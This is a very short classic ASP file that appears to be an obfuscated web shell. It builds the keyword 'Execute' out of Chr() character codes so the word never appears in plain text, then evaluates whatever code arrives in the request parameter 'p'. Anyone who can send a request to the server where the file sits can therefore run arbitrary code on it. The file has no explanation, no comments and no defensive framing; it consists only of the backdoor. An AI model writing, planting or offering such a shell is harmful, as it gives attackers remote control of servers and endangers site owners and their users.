<%
a = Chr(69) & Chr(120) & Chr(101) & Chr(99) & Chr(117) & Chr(116) & Chr(101)
Eval(a & "(Request(""p""))")
%>
